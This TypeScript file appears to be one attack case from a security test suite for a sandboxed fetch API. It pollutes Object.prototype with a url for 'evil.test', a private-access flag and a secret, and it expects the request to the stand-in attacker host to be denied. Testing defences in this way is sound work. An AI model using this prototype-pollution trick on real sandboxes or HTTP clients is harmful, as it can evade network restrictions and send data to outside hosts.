import type { FetchAttack } from './fetch-attack.ts';

export default {
  name: 'an init that inherits',
  tries: 'To put something into every request through the prototype of all objects.',
  source: `Object.defineProperty(Object.prototype, 'id', { value: 1, configurable: true, writable: true });
Object.prototype.url = at('evil.test');
Object.prototype.allowPrivate = true;
Object.prototype.secret = 'x';
const { body } = await api.fetch(at('open.test'));
const { line } = JSON.parse(body);
api.state.set('line', [line, await ask(at('evil.test'))]);
for (const key of ['id', 'url', 'allowPrivate', 'secret']) delete Object.prototype[key];`,
  arrives: ['GET open.test/'],
  expect: { returned: { line: ['GET / HTTP/1.1', 'http_fetch_denied'] } },
} satisfies FetchAttack;
